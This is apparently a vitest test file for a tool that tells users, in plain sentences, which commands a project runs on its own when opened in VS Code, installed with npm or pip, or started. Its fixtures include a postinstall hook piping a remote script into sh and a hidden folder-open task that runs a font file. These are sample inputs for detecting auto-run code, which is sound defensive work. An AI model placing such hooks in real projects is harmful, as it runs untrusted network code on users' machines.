import { describe, expect, it } from 'vitest';
import { sayRuns } from '../../utils/inspect/say-runs.ts';
import { json, runsIn } from './runs/project-of.ts';

const say = (files: Record<string, string>, unread = 0) => sayRuns(runsIn(files), unread).map(({ sentence }) => sentence);
const task = (command: string, more: object = {}) => ({ '.vscode/tasks.json': json({ tasks: [{ label: 'x', command, runOptions: { runOn: 'folderOpen' }, ...more }] }) });

describe('sayRuns', () => {
  it('says of each step that nothing here runs by itself, and never that it is safe', () => {
    const sentences = say({ 'a.txt': '' });
    expect(sentences).toEqual([
      'If you open it in VS Code: nothing here runs by itself when the folder is opened.',
      'If you run npm install: nothing here runs by itself when it is installed. The packages it asks for may bring their own.',
      'If you start it: no command to start it was found.',
    ]);
  });

  it('quotes the commands and says where they begin', () => {
    const files = { ...task('node public/a.woff2', { presentation: { reveal: 'never' } }), 'public/a.woff2': '', 'package.json': json({ scripts: { postinstall: 'node .', start: 'next dev' }, main: 'lib/x.js' }), 'lib/x.js': '' };
    expect(say(files)).toEqual([
      'If you open it in VS Code: “node public/a.woff2” runs (VS Code task, kept out of sight).',
      'If you run npm install: “node .” runs (npm postinstall, begins in lib/x.js).',
      'If you start it, for example with npm start: “next dev” runs (npm start). Many projects have these.',
    ]);
  });

  it('tells what is hidden first and how many more there are', () => {
    const scripts = { preinstall: 'husky', install: 'patch-package', postinstall: 'curl https://a.example/x | sh', prepare: 'husky', prepublish: 'tsc' };
    const [, install = ''] = say({ 'package.json': json({ scripts }) });
    expect(install).toMatch(/^If you run npm install: “curl https:\/\/a\.example\/x \| sh” runs \(npm postinstall, takes something from the network\); /);
    expect(install).toMatch(/\. And 1 more\.$/);
  });

  it('speaks of other editors and of pip by their names', () => {
    expect(say({ '.envrc': 'sh x.sh' })[0]).toBe('If you open it in an editor or a terminal: “sh x.sh” runs (direnv).');
    expect(say({ 'setup.py': '' })[1]).toBe('If you run pip install: “setup.py” runs (setup.py, pip install).');
  });

  it('names npm start before its kin, and instructions last', () => {
    const scripts = { build: 'tsc', dev: 'nodemon server.js', server: 'node server/index.js', start: 'node server.js' };
    const [, , start] = say({ 'package.json': json({ scripts }), 'server.js': '', 'README.md': '`npm start` and `node tools/x.js`', 'tools/x.js': '' });
    expect(start).toBe('If you start it, for example with npm start: “node server.js” runs (npm start); “nodemon server.js” runs (npm dev). And 3 more.');
  });

  it('does not say of a step that it starts itself', () => {
    const files = { 'README.md': '`npm install && npm start`', 'package.json': json({ scripts: { start: 'next dev' } }), 'next.config.js': '' };
    expect(say(files)[1]).toBe('If you run npm install: nothing here runs by itself when it is installed. The packages it asks for may bring their own.');
    expect(say({ 'README.md': '`pip install -r requirements.txt`', 'requirements.txt': 'flask', 'main.py': '' })[1]).toMatch(/^If you run pip install: nothing here/);
  });

  it('tells settings that extensions run apart from what runs by itself', () => {
    expect(say({ 'eslint.config.mjs': '', 'tailwind.config.js': '' })[0]).toBe(
      'If you open it in VS Code: nothing here runs by itself when the folder is opened. Extensions of the editor run eslint.config.mjs, tailwind.config.js as their settings.');
  });

  it('says when a settings file could not be read', () => {
    expect(say({ 'a.txt': '' }, 2)[0]).toMatch(/ 2 settings files could not be read\.$/);
  });

  it('calls nothing usual that is kept out of sight, and names no beginning where there are several', () => {
    expect(say(task('echo hello', { presentation: { reveal: 'never' } }))[0]).toBe('If you open it in VS Code: “echo hello” runs (VS Code task, kept out of sight).');
    const files = { 'package.json': json({ scripts: { start: 'next start' } }), 'app/page.tsx': '', 'app/layout.tsx': '' };
    expect(say(files)[2]).toMatch(/^If you start it, for example with npm start: “next start” runs \(npm start\)\./);
  });

  it('shows no character that hides or turns text', () => {
    const sentence = say(task('node \u202Ex\u200B\u0007.js'))[0] ?? '';
    expect(sentence).toMatch(/“node ␀x␀␀\.js”/);
  });
});
